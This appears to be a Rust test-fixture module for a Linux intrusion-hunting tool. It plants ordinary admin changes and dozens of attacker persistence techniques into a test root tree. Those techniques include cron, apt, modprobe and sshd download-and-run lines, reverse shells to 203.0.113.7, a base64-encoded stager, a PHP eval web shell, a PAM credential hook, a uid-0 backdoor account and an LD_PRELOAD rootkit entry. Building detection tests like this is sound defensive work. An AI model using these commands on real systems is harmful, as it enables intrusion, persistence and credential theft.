//! Planting attacker techniques (and ordinary admin changes) into a root tree, so the hunt can be
//! tested on a real Debian root: every technique of the catalog has a planted positive, and the
//! benign set holds what a real server's admins do (certbot cron, a deploy user with a key, a sudo
//! group rule, an app's systemd unit, a PHP page that escapes its output).

use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

/// One planted technique: the check that must find it and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Planted {
    /// Check id the hunt must raise.
    pub check: &'static str,
    /// Path (as the examined system writes it) the finding must name.
    pub path: &'static str,
}

fn write(root: &Path, path: &str, content: &[u8], mode: u32) -> std::io::Result<()> {
    let full = root.join(path.trim_start_matches('/'));
    if let Some(parent) = full.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::write(&full, content)?;
    std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode))
}

fn append(root: &Path, path: &str, content: &[u8]) -> std::io::Result<()> {
    let full = root.join(path.trim_start_matches('/'));
    if let Some(parent) = full.parent() {
        std::fs::create_dir_all(parent)?;
    }
    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(full)?;
    f.write_all(content)
}

fn copy_elf(root: &Path, to: &str, mode: u32) -> std::io::Result<()> {
    let elf = std::fs::read(root.join("usr/bin/true"))?;
    write(root, to, &elf, mode)
}

const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";

/// What ordinary administration adds to a server; none of it may be raised above low.
pub fn benign_admin(root: &Path) -> std::io::Result<()> {
    write(root, "/etc/cron.d/certbot", b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n", 0o644)?;
    append(root, "/etc/passwd", b"deploy:x:1001:1001:Deploy,,,:/home/deploy:/bin/bash\nmyapp:x:998:998::/opt/myapp:/usr/sbin/nologin\n")?;
    append(
        root,
        "/etc/shadow",
        b"deploy:$y$j9T$abc$def:19700:0:99999:7:::\nmyapp:!:19700::::::\n",
    )?;
    append(root, "/etc/group", b"deploy:x:1001:\nmyapp:x:998:\n")?;
    write(
        root,
        "/home/deploy/.ssh/authorized_keys",
        format!("ssh-ed25519 {KEY} deploy@ci\n").as_bytes(),
        0o600,
    )?;
    write(
        root,
        "/home/deploy/.bashrc",
        b"# ~/.bashrc\nexport PATH=$HOME/bin:$PATH\nalias ll='ls -l'\n",
        0o644,
    )?;
    write(
        root,
        "/var/spool/cron/crontabs/deploy",
        b"# m h dom mon dow command\n0 3 * * * /home/deploy/bin/backup.sh >/dev/null 2>&1\n",
        0o600,
    )?;
    write(
        root,
        "/etc/sudoers.d/ops",
        b"%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n",
        0o440,
    )?;
    write(root, "/etc/systemd/system/myapp.service", b"[Unit]\nDescription=My app\n\n[Service]\nUser=myapp\nExecStart=/opt/myapp/bin/server --port 8080\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n", 0o644)?;
    write(root, "/var/www/html/search.php", b"<?php\n$q = $_GET['q'] ?? '';\necho '<p>You searched for ' . htmlspecialchars($q, ENT_QUOTES) . '</p>';\n", 0o644)?;
    write(
        root,
        "/etc/profile.d/java.sh",
        b"export JAVA_HOME=/opt/jdk\nexport PATH=$JAVA_HOME/bin:$PATH\n",
        0o644,
    )?;
    write(
        root,
        "/usr/local/bin/deploy-helper",
        b"#!/bin/sh\nexec /opt/myapp/bin/server --migrate\n",
        0o755,
    )?;
    write(root, "/etc/cron.daily/backup-db", b"#!/bin/sh\npg_dump mydb | gzip > /srv/backup/mydb-$(date +%F).sql.gz\nfind /srv/backup -mtime +14 -delete\n", 0o755)?;
    Ok(())
}

/// Plants every technique; returns what the hunt must find.
pub fn malicious(root: &Path) -> std::io::Result<Vec<Planted>> {
    let mut p = Vec::new();
    let mut add = |check, path| p.push(Planted { check, path });

    write(
        root,
        "/etc/cron.d/freedesktop_timesync1",
        b"*/5 * * * * root curl -fsSL http://203.0.113.7/k.sh | sh\n",
        0o644,
    )?;
    add("cron.download_exec", "/etc/cron.d/freedesktop_timesync1");
    write(
        root,
        "/var/spool/cron/crontabs/www-data",
        b"@reboot /tmp/.x/kworker\n",
        0o600,
    )?;
    add("cron.tmp_exec", "/var/spool/cron/crontabs/www-data");
    write(root, "/var/spool/cron/atjobs/a0000101b2c3d4", b"#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || exit 1\nwget -q -O- http://evil.example/a | bash\n", 0o700)?;
    add("at.download_exec", "/var/spool/cron/atjobs/a0000101b2c3d4");
    write(root, "/etc/systemd/system/dbus-org.freedesktop.resolved.service", b"[Unit]\nDescription=Resolver helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644)?;
    add(
        "systemd.reverse_shell",
        "/etc/systemd/system/dbus-org.freedesktop.resolved.service",
    );
    write(
        root,
        "/usr/lib/systemd/system/systemd-sysupdate-helper.service",
        b"[Service]\nExecStart=/usr/sbin/sysupdate-helper\n",
        0o644,
    )?;
    add(
        "systemd.unowned",
        "/usr/lib/systemd/system/systemd-sysupdate-helper.service",
    );
    write(root, "/usr/lib/systemd/system-generators/makecon", b"#!/bin/sh\ncat > /run/systemd/system/generator.service <<EOF\n[Service]\nExecStart=/usr/bin/gen\nEOF\n", 0o755)?;
    add("generator.unowned", "/usr/lib/systemd/system-generators/makecon");
    write(
        root,
        "/etc/rc.local",
        b"#!/bin/sh -e\n/usr/lib/.cache/sshd -D &\nexit 0\n",
        0o755,
    )?;
    add("rc_local.hidden_exec", "/etc/rc.local");
    write(
        root,
        "/etc/profile.d/locale-fix.sh",
        b"echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvc3RhZ2UyIHwgc2ggPi9kZXYvbnVsbCAyPiYx | base64 -d | bash\n",
        0o644,
    )?;
    add("profile.decode_exec", "/etc/profile.d/locale-fix.sh");
    append(
        root,
        "/root/.bashrc",
        b"export LD_PRELOAD=/usr/local/lib/libprocesshider.so\n",
    )?;
    add("profile.preload", "/root/.bashrc");
    write(root, "/etc/update-motd.d/137-python-upgrades", b"#!/bin/sh\nnohup python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])' >/dev/null 2>&1 &\n", 0o755)?;
    add("motd.reverse_shell", "/etc/update-motd.d/137-python-upgrades");
    write(
        root,
        "/etc/udev/rules.d/10-backdoor.rules",
        b"ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/var/tmp/.update\"\n",
        0o644,
    )?;
    add("udev.tmp_exec", "/etc/udev/rules.d/10-backdoor.rules");
    write(
        root,
        "/etc/apt/apt.conf.d/01python-upgrades",
        b"APT::Update::Pre-Invoke {\"wget -q -O- http://203.0.113.7/a | sh > /dev/null 2>&1 &\"};\n",
        0o644,
    )?;
    add("apt_hook.download_exec", "/etc/apt/apt.conf.d/01python-upgrades");
    append(
        root,
        "/etc/pam.d/common-auth",
        b"auth optional pam_exec.so quiet expose_authtok /var/tmp/.spy.sh\n",
    )?;
    add("pam.tmp_exec", "/etc/pam.d/common-auth");
    write(
        root,
        "/etc/pam.d/sshd-extra",
        b"auth sufficient pam_permit.so\n",
        0o644,
    )?;
    add("pam.permit_all", "/etc/pam.d/sshd-extra");
    write(
        root,
        "/etc/pam.d/login-extra",
        b"auth required /tmp/pam_evil.so\n",
        0o644,
    )?;
    add("pam.foreign_module", "/etc/pam.d/login-extra");
    write(
        root,
        "/etc/ld.so.preload",
        b"/usr/local/lib/libprocesshider.so\n",
        0o644,
    )?;
    add("ld_preload.preload", "/etc/ld.so.preload");
    copy_elf(root, "/usr/local/lib/libprocesshider.so", 0o755)?;
    add("file.known_rootkit", "/usr/local/lib/libprocesshider.so");
    write(root, "/etc/modprobe.d/blacklist-hid.conf", b"install usbhid /bin/sh -c 'curl -s http://203.0.113.7/m | sh; /sbin/modprobe --ignore-install usbhid'\n", 0o644)?;
    add("modprobe.download_exec", "/etc/modprobe.d/blacklist-hid.conf");
    write(
        root,
        "/etc/xdg/autostart/pkc12-register.desktop",
        b"[Desktop Entry]\nType=Application\nName=pkc12\nExec=/tmp/pkc12-register\n",
        0o644,
    )?;
    add(
        "xdg_autostart.tmp_exec",
        "/etc/xdg/autostart/pkc12-register.desktop",
    );
    write(
        root,
        "/etc/network/if-up.d/ntpsync",
        b"#!/bin/sh\n/dev/shm/.ntp &\n",
        0o755,
    )?;
    add("net_hook.tmp_exec", "/etc/network/if-up.d/ntpsync");

    write(root, "/etc/init.d/ssh-procps", b"#!/bin/sh\n### BEGIN INIT INFO\n# Provides: ssh-procps\n### END INIT INFO\n/usr/sbin/sshd2 -p 2222\n", 0o755)?;
    add("init.unowned", "/etc/init.d/ssh-procps");
    write(root, "/etc/modules-load.d/hid.conf", b"diamorphine\n", 0o644)?;
    add("kmod_load.rootkit_name", "/etc/modules-load.d/hid.conf");
    write(
        root,
        "/etc/ssh/sshd_config.d/90-keys.conf",
        b"AuthorizedKeysFile .ssh/authorized_keys /var/lib/.keys/%u\nPermitUserEnvironment yes\n",
        0o644,
    )?;
    add("sshd.keys_file", "/etc/ssh/sshd_config.d/90-keys.conf");
    add("sshd.user_environment", "/etc/ssh/sshd_config.d/90-keys.conf");
    write(
        root,
        "/etc/ssh/sshd_config.d/91-force.conf",
        b"Match User git\n  ForceCommand /bin/bash -c 'curl -s http://203.0.113.7/x | sh'\n",
        0o644,
    )?;
    add("sshd.download_exec", "/etc/ssh/sshd_config.d/91-force.conf");
    write(root, "/dev/.lp0", b"stolen credentials\n", 0o644)?;
    add("file.dev_regular", "/dev/.lp0");
    copy_elf(root, "/usr/sbin/sshd2", 0o755)?;
    add("file.unowned_system_binary", "/usr/sbin/sshd2");
    write(
        root,
        "/var/www/html/uploads/thumb.php",
        b"<?php echo 'ok'; ?>\n",
        0o644,
    )?;
    add("web.script_in_uploads", "/var/www/html/uploads/thumb.php");

    append(root, "/etc/passwd", b"backup2:x:0:0::/root:/bin/bash\n")?;
    append(
        root,
        "/etc/shadow",
        b"backup2:$y$j9T$xyz$uvw:19700:0:99999:7:::\n",
    )?;
    add("account.extra_uid0", "/etc/passwd");
    append(
        root,
        "/etc/passwd",
        b"svc-mon:x:995:995::/var/lib/svc-mon:/bin/bash\nguest2:x:1050:1050::/home/guest2:/bin/bash\n",
    )?;
    append(
        root,
        "/etc/shadow",
        b"svc-mon:$6$salt$hashhashhash:19700:0:99999:7:::\nguest2::19700:0:99999:7:::\n",
    )?;
    add("account.service_login", "/etc/shadow");
    add("account.empty_password", "/etc/shadow");
    write(
        root,
        "/etc/sudoers.d/www",
        b"www-data ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    )?;
    add("sudoers.service_nopasswd", "/etc/sudoers.d/www");
    write(
        root,
        "/etc/sudoers.d/env",
        b"Defaults env_keep += \"LD_PRELOAD\"\n",
        0o440,
    )?;
    add("sudoers.weak_default", "/etc/sudoers.d/env");
    write(
        root,
        "/root/.ssh/authorized_keys",
        format!("command=\"/tmp/.sshd-helper\",no-pty ssh-ed25519 {KEY} root@kali\n").as_bytes(),
        0o600,
    )?;
    add("authorized_keys.tmp_exec", "/root/.ssh/authorized_keys");
    write(
        root,
        "/var/www/.ssh/authorized_keys",
        format!("ssh-ed25519 {KEY} x\n").as_bytes(),
        0o600,
    )?;
    add("ssh.service_account_key", "/var/www/.ssh/authorized_keys");
    append(root, "/etc/ssh/sshd_config", b"\nPermitEmptyPasswords yes\n")?;
    add("sshd.empty_passwords", "/etc/ssh/sshd_config");

    write(
        root,
        "/var/www/html/uploads/img.php",
        b"<?php @eval($_POST['cmd']); ?>\n",
        0o644,
    )?;
    add("web.shell", "/var/www/html/uploads/img.php");
    copy_elf(root, "/tmp/.x/kworker", 0o755)?;
    add("file.tmp_executable", "/tmp/.x/kworker");
    copy_elf(root, "/var/tmp/.sh", 0o4755)?;
    add("file.suid_unowned", "/var/tmp/.sh");
    copy_elf(root, "/usr/bin/ssh-agentd", 0o755)?;
    let backdated = std::fs::File::options()
        .write(true)
        .open(root.join("usr/bin/ssh-agentd"))?;
    backdated
        .set_modified(std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_560_000_000))?;
    add("file.backdated_binary", "/usr/bin/ssh-agentd");
    copy_elf(root, "/var/tmp/.rk/diamorphine.ko", 0o644)?;
    add("kmod.foreign_ko", "/var/tmp/.rk/diamorphine.ko");
    write(root, "/usr/share/.aptitude/config", b"x", 0o644)?;
    add("file.hidden_system_dir", "/usr/share/.aptitude");
    copy_elf(root, "/opt/.cache/xmrig", 0o755)?;
    add("file.miner", "/opt/.cache/xmrig");
    append(
        root,
        "/etc/hosts",
        b"203.0.113.7 security.debian.org deb.debian.org\n",
    )?;
    add("hosts.hijack", "/etc/hosts");
    let hist = root.join("root/.bash_history");
    let _ = std::fs::remove_file(&hist);
    std::os::unix::fs::symlink("/dev/null", hist)?;
    add("history.devnull", "/root/.bash_history");
    Ok(p)
}
